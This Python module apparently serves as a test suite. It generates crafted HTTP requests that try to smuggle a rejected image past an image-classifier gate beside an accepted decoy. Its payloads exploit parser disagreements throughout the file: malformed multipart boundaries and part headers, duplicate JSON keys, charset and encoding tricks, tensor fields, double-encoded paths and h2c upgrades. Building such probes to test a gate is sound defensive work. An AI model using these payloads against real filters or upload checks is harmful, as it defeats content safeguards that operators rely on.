"""Requests made to carry an odd image past the gate, beside a normal one that it finds: what tests send, by kind.

Each kind is something that two readers of a request take differently, or a place that nobody looks at.
"""

import base64
import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from io import BytesIO
from urllib.parse import quote

import numpy as np
from PIL import Image

JSON = "application/json"
URL_FORM = "application/x-www-form-urlencoded"


@dataclass(frozen=True)
class PreparedRequest:
    """One request.

    Attributes:
        kind: What it tries, in a few words.
        path: Of the classifier, with a query if there is one.
    """

    kind: str
    content_type: str
    body: bytes
    path: str = "/classify"
    method: str = "POST"
    headers: tuple[tuple[str, str], ...] = field(default=())

    def raw(self, prefix: str = "") -> bytes:
        """The bytes that go over the connection; `prefix` stands in front of the path."""
        fields = [("Host", "gate.example"), *self.headers, ("Content-Length", str(len(self.body)))]
        if self.content_type:
            fields.append(("Content-Type", self.content_type))
        lines = [f"{self.method} {prefix}{self.path} HTTP/1.1", *(f"{name}: {value}" for name, value in fields)]
        return "\r\n".join([*lines, "", ""]).encode("latin-1") + self.body


def prepared_requests(normal: bytes, odd: bytes) -> list[PreparedRequest]:
    """All of them.

    Args:
        normal: A PNG file that the gate lets pass.
        odd: One that it refuses.
    """
    kinds = (
        *(_delimiters, _boundaries, _content_types, _part_headers),
        *(_url_forms, _json_fields, _json_readings, _inference, _paths, _http),
    )
    return [request for kind in kinds for request in kind(normal, odd)]


def part(name: str, content: bytes, more: str = '; filename="a.png"\r\nContent-Type: image/png') -> bytes:
    """A part of a form without its delimiters."""
    return b'Content-Disposition: form-data; name="%b"%b\r\n\r\n%b' % (name.encode(), more.encode("latin-1"), content)


def _parts(normal: bytes, odd: bytes) -> tuple[bytes, bytes]:
    """What a form holds for one reader, and for another."""
    return part("decoy", normal), part("file", odd)


def _delimiters(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    """The odd image lies behind a delimiter that another parser sees in what the gate could take for content."""
    first, second = _parts(normal, odd)
    between = {
        "only a line feed before it": b"\n--x\r\n",
        "only a carriage return before it": b"\r--x\r\n",
        "within a line": b"--x\r\n",
        "only line feeds": b"\n--x\n",
        "a dash behind it": b"\r\n--x-\r\n",
        "a blank behind it": b"\r\n--x \r\n",
        "a tab and a letter behind it": b"\r\n--x\tq\r\n",
        "closed, and opened in the epilogue": b"\r\n--x--\r\n--x\r\n",
        "closed and opened in one line": b"\r\n--x----x\r\n",
        "closed and opened behind a line feed": b"\r\n--x--\n--x\r\n",
        "only a line feed behind it": b"\r\n--x\n",
        "only a carriage return behind it": b"\r\n--x\r",
        "in quotation marks": b'\r\n--"x"\r\n',
    }
    for name, delimiter in between.items():
        body = b"--x\r\n%b%b%b\r\n--x--\r\n" % (first, delimiter, second)
        yield PreparedRequest(f"multipart: {name}", "multipart/form-data; boundary=x", body)
    yield PreparedRequest(
        "multipart: in the preamble",
        "multipart/form-data; boundary=x",
        b"\n--x\n" + second + b"\n--x--\n\r\n--x\r\n" + first + b"\r\n--x--\r\n",
    )


def _boundaries(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    """The form of one boundary lies in the first part of another's."""
    first, second = _parts(normal, odd)
    boundaries = {  # parameters of the content type, boundary that one reader sees, boundary that another sees
        "two": ("boundary=y; boundary=x", b"x", b"y"),
        "two of other case": ("Boundary=y; boundary=x", b"x", b"y"),
        "comma": ("boundary=x, y", b"x, y", b"x"),
        "apostrophes": ("boundary='x'", b"'x'", b"x"),
        "blank at its end": ('boundary="x "', b"x ", b"x"),
        "within another parameter": ('a="; boundary=y; b="; boundary=x', b"x", b"y"),
        "in parts": ("boundary*0=y; boundary=x", b"x", b"y"),
        "extended": ("boundary*=utf-8''y; boundary=x", b"x", b"y"),
        "escaped": ('boundary="x\\y"', b"xy", b"x\\y"),
        "semicolon": ('boundary="x;y"', b"x;y", b"x"),
        "comment": ("boundary=x(y)", b"x(y)", b"x"),
        "not closed": ('boundary="x', b'"x', b"x"),
        "other charset": ("charset=utf-16; boundary=x", b"x", b"y"),
    }
    for name, (parameters, ours, theirs) in boundaries.items():
        inner = b"%b\r\n--%b\r\n%b\r\n--%b--\r\n" % (first, theirs, second, theirs)
        body = b"--%b\r\n%b\r\n--%b--\r\n" % (ours, inner, ours)
        yield PreparedRequest(f"boundary: {name}", f"multipart/form-data; {parameters}", body)


def _content_types(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    """An ordinary form that is sent as something else."""
    first, second = _parts(normal, odd)
    form = b"--x\r\n" + first + b"\r\n--x\r\n" + second + b"\r\n--x--\r\n"
    yield PreparedRequest("multipart: no content type", "", form)
    yield PreparedRequest("multipart: behind the image", "", normal + b"\r\n" + form)
    yield PreparedRequest(
        "multipart: behind the image, as a form", "multipart/form-data; boundary=x", normal + b"\r\n" + form
    )
    yield PreparedRequest(
        "multipart: two content types",
        "image/png",
        form,
        headers=(("Content-Type", "multipart/form-data; boundary=x"),),
    )
    yield PreparedRequest("multipart: mixed", "multipart/mixed; boundary=x", form)


def _part_headers(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    pixels = np.asarray(Image.open(BytesIO(odd)).convert("L"))
    # Text that images can be, for what is a file to one reader and a field of text to another.
    text = b"P2 %d %d 255\n" % pixels.shape[::-1] + " ".join(map(str, pixels.ravel())).encode()
    encoded = base64.b64encode(odd)
    headers = {
        "empty file name": ('; filename=""', text),
        "file name in parts": ('; filename*0="d.ppm"', text),
        "extended file name": ("; filename*=utf-8''d.ppm", text),
        "extended name": ("; name*=utf-8''upload; filename=\"d.ppm\"", text),
        "name within a file name": ('; filename="x; name=upload; y.png"', text),
        "escaped quotation mark": ('; filename="a\\"; name=\\"upload"', text),
        "two names": ('; name="upload"; filename="d.ppm"', text),
        "two file names": ('; filename="a"; filename=""', text),
        "two dispositions": ('; filename="d.ppm"\r\nContent-Disposition: form-data; name="z"', text),
        "folded": (';\r\n filename="d.ppm"', text),
        "bare carriage return": (';\rfilename="d.ppm"', text),
        "blank before the colon": ('\r\nContent-Disposition : form-data; name="upload"; filename="d.ppm"', text),
        "base64": ("\r\nContent-Transfer-Encoding: base64", encoded),
        "base64 in lines, of a file": (
            '; filename="a.png"\r\nContent-Transfer-Encoding: BASE64',
            b"iVBO\r\n" + encoded[4:],
        ),
        "quoted-printable": ("\r\nContent-Transfer-Encoding: quoted-printable", text.replace(b" ", b"=20")),
        "gzip": ("\r\nContent-Encoding: gzip", gzip.compress(odd)),
        "another length": ('; filename="a"\r\nContent-Length: 3', normal[:3] + odd),
        "other charset": ("\r\nContent-Type: text/plain; charset=utf-7", text),
        "nested": (
            "\r\nContent-Type: multipart/mixed; boundary=y",
            b'--y\r\nContent-Disposition: file; filename="d"\r\n\r\n' + odd + b"\r\n--y--",
        ),
        "long text": ("", text),
        "base64 without a file name": ("", b"." + encoded),
        "a table": ('; filename="a.csv"\r\nContent-Type: text/csv', text),
        "JSON": ("\r\nContent-Type: application/json", json.dumps({"upload": encoded.decode()[::-1]}).encode()),
    }
    for name, (more, content) in headers.items():
        body = b"--x\r\n%b\r\n--x\r\n%b\r\n--x--\r\n" % (part("decoy", normal), part("upload", content, more))
        yield PreparedRequest(f"part: {name}", "multipart/form-data; boundary=x", body)


def _url_forms(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    ours, theirs = base64.b64encode(normal).decode(), base64.b64encode(odd).decode()
    document = json.dumps({"a": f"&image={quote(theirs, safe='')}&z=", "image": ours}).encode()
    yield PreparedRequest("form: also JSON", URL_FORM, document)
    yield PreparedRequest(
        "form: also JSON, as a list",
        URL_FORM,
        b'["&image=%b&z=", "%b"]' % (quote(theirs, safe="").encode(), ours.encode()),
    )
    yield PreparedRequest("form: behind an image", URL_FORM, normal + b"&image=" + quote(theirs, safe="").encode())
    pairs = {
        "semicolon": f"image={quote(ours, safe='')};image={quote(theirs, safe='')}",
        "semicolon within a field": f"a=1;image={quote(theirs, safe='')}&image={quote(ours, safe='')}",
        "blanks for plus signs": f"image={quote(ours, safe='')}&other=.{theirs.replace('+', '%20')}",
        "other field": f"image={quote(ours, safe='')}&pixels={quote('.' + theirs, safe='')}",
        "other charset": f"_charset_=utf-7&image={quote(ours, safe='')}",
        "half an escape": f"image={quote(ours, safe='')}&b=%{theirs[:200]}",
        "encoded twice": f"image={quote(ours, safe='')}&%2569mage={quote(quote(theirs, safe=''), safe='')}",
    }
    for name, text in pairs.items():
        yield PreparedRequest(f"form: {name}", URL_FORM, text.encode())


def _json_fields(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    """An odd image in a field beside the one that is judged."""
    ours = base64.b64encode(normal).decode()
    for name, value in _written_in_json(odd).items():
        beside = {"image": ours, "other": value}
        yield PreparedRequest(f"field: {name}", JSON, json.dumps(beside).encode())
        below = {"image": ours, "inputs": {"value": [value]}}
        yield PreparedRequest(f"field below: {name}", JSON, json.dumps(below).encode())


def _written_in_json(odd: bytes) -> dict[str, object]:
    """An image, or where one lies, in all ways in which a JSON value can say it."""
    text = base64.b64encode(odd).decode()
    pixels = np.asarray(Image.open(BytesIO(odd)).convert("L"))
    formats = ("TIFF", "PPM", "ICO", "DIB", "DDS", "SGI", "JPEG2000", "TGA", "PCX")
    return {
        **{f"as {name}": base64.b64encode(_as(odd, name)).decode() for name in formats},
        "junk in front": "." + text,
        "junk within": text[:3] + "!" + text[3:],
        "quotation mark in front": '"' + text,
        "blank within": text[:3] + "\n" + text[3:],
        "data: URL behind a blank": " data:image/png;base64," + text,
        "data: URL in a sentence": "See data:image/png;base64," + text,
        "other alphabet": "." + text.replace("+", "-").replace("/", "_"),
        "hex": odd.hex(),
        "gzip": base64.b64encode(gzip.compress(odd)).decode(),
        "base64 of base64": base64.b64encode(text.encode()).decode(),
        "base85": base64.b85encode(odd).decode(),
        "pixels as text": " ".join(map(str, pixels.ravel())),
        "rows of text": [" ".join(map(str, row)) for row in pixels],
        "characters": list("." + text),
        "pieces": [text[at : at + 40] for at in range(0, len(text), 40)],
        "pieces in fields": {str(at): text[at : at + 40] for at in range(0, len(text), 40)},
        "rows of pixels": pixels.tolist(),
        "pixels as words": [[str(level) for level in row] for row in pixels],
        "truth values": (pixels < 128).tolist(),
        "one number": int.from_bytes(odd, "big") % 10**4000,
        "JSON in a string": json.dumps({"image": text}),
        "a key": {text: 1},
        "http address": "http://elsewhere.example/odd.png",
        "address with a tab": "ht\ttp://elsewhere.example/odd.png",
        "address without slashes": "https:elsewhere.example/odd.png",
        "address of another scheme": "s3://bucket/odd.png",
        "address without a scheme": "elsewhere.example/odd.png",
        "address of no scheme at all": "//elsewhere.example/odd.png",
        "file": "/data/odd.png",
    }


def _json_readings(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    ours, theirs = base64.b64encode(normal).decode(), base64.b64encode(odd).decode()
    document = f'{{"image": "{ours}"}}'
    other = f'{{"image": "{theirs}"}}'
    bodies = {
        "a key twice": (JSON, f'{{"image": "{theirs}", "image": "{ours}"}}'.encode()),
        "a key in other case": (JSON, f'{{"image": "{ours}", "IMAGE": "{theirs}"}}'.encode()),
        "a key with a zero": (JSON, f'{{"image": "{ours}", "image\\u0000": "{theirs}"}}'.encode()),
        "an escaped key": (JSON, f'{{"image": "{ours}", "i\\u006dage": "{theirs}"}}'.encode()),
        "a second document": (JSON, (document + other).encode()),
        "a comment": (JSON, f'{{/*"image": "{ours}", /**/"image": "{theirs}"}}'.encode()),
        "byte order mark": (JSON, b"\xef\xbb\xbf" + other.encode()),
        "UTF-16": (JSON, other.encode("utf-16")),
        "UTF-16 without a mark": (JSON, other.encode("utf-16-le")),
        "UTF-32": (JSON, other.encode("utf-32-be")),
        "UTF-7": (
            JSON + "; charset=utf-7",
            f'{{"image": "{ours}", "z": "+ACI-,+ACI-image+ACI-:+ACI-{theirs}"}}'.encode(),
        ),
        "charset twice": (JSON + "; charset=utf-8; charset=utf-7", document.encode()),
        "half a character": (JSON, f'{{"image": "{ours}", "a": "\\ud800"}}'.encode()),
        "picture for JSON": (JSON, normal),
        "JSON for a picture": ("image/png", document.encode()),
        "text": ("text/plain", ours.encode()),
    }
    for name, (content_type, body) in bodies.items():
        yield PreparedRequest(f"JSON: {name}", content_type, body)


def _inference(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    ours, theirs = base64.b64encode(normal).decode(), base64.b64encode(odd).decode()
    tensor: dict[str, object] = {"name": "x", "datatype": "BYTES", "shape": [1], "data": [ours]}
    values = [0.0] * 784
    inputs: dict[str, list[dict[str, object]]] = {
        "another key": [{**tensor, "image": theirs}],
        "contents of gRPC": [{**tensor, "contents": {"bytes_contents": [theirs]}}],
        "parameter": [{**tensor, "parameters": {"image": theirs}}],
        "name": [{**tensor, "name": theirs}],
        "shape that lies": [tensor, {"name": "y", "datatype": "FP64", "shape": [1], "data": [values]}],
        "other datatype": [tensor, {"name": "y", "datatype": "FP16", "shape": [1, 784], "data": values}],
        "unknown datatype": [tensor, {"name": "y", "datatype": "IMAGE", "shape": [1], "data": [theirs]}],
        "words for numbers": [tensor, {"name": "y", "datatype": "FP64", "shape": [1], "data": [theirs]}],
        "a second element": [{**tensor, "data": [ours, theirs]}],
        "other shape": [tensor, {"name": "y", "datatype": "UINT8", "shape": [1, 1, 14, 56], "data": [0] * 784}],
    }
    for name, one in inputs.items():
        yield PreparedRequest(f"tensor: {name}", JSON, json.dumps({"inputs": one}).encode(), "/v2/models/m/infer")
    yield PreparedRequest(
        "tensor: id", JSON, json.dumps({"id": theirs, "inputs": [tensor]}).encode(), "/v2/models/m/infer"
    )
    length = ("Inference-Header-Content-Length", "0")
    form = normal + b"&image=" + quote(theirs, safe="").encode()
    yield PreparedRequest("tensor: raw, and a form", URL_FORM, form, headers=(length,))
    yield PreparedRequest("tensor: raw, and JSON", JSON, json.dumps({"image": theirs}).encode(), headers=(length,))
    yield PreparedRequest("tensor: two lengths", "", normal, headers=(length, (length[0], "5")))


def _paths(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    text = quote(base64.b64encode(odd).decode(), safe="")
    address = "http://elsewhere.example/odd.png"
    for name, path in {
        "image": f"/get?img_b64=.{text}",
        "image in the path": f"/get/.{text}",
        "address": f"/get?src={address}",
        "address in another field": f"/get?q={quote(address, safe='')}",
        "field encoded twice": f"/get?%2575rl={address}",
        "address encoded twice": f"/get?a={quote(quote(address, safe=''), safe='')}",
        "address in the path": f"/get/{address}",
        "address as a name": f"/get?{quote(address, safe='')}",
        "semicolon": f"/get?a=1;image={text}",
    }.items():
        yield PreparedRequest(f"query: {name}", "", b"", path, "GET")
        yield PreparedRequest(f"query beside an image: {name}", "image/png", normal, path)


def _http(normal: bytes, odd: bytes) -> Iterator[PreparedRequest]:
    yield PreparedRequest("body: behind a PNG", "image/png", normal + odd)
    yield PreparedRequest("body: behind a JPEG", "image/jpeg", _as(normal, "JPEG") + _as(odd, "JPEG"))
    yield PreparedRequest("body: behind a GIF", "image/gif", _as(normal, "GIF") + odd)
    yield PreparedRequest("body: behind a WebP", "image/webp", _as(normal, "WEBP") + odd)
    yield PreparedRequest("body: behind a BMP", "image/bmp", _as(normal, "BMP") + odd)
    yield PreparedRequest("body: compressed", "image/png", gzip.compress(odd), headers=(("Content-Encoding", "gzip"),))
    yield PreparedRequest("body: of a GET", "image/png", odd, method="GET")
    upgrade = (("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c"), ("HTTP2-Settings", "AAEAAEAAAAIAAAAB"))
    yield PreparedRequest("upgrade: of a POST", "image/png", odd, headers=upgrade)
    yield PreparedRequest("upgrade: of a GET", "image/png", odd, method="GET", headers=upgrade)


def _as(data: bytes, image_format: str) -> bytes:
    buffer = BytesIO()
    Image.open(BytesIO(data)).convert("RGB" if image_format == "DDS" else "L").save(buffer, image_format)
    return buffer.getvalue()
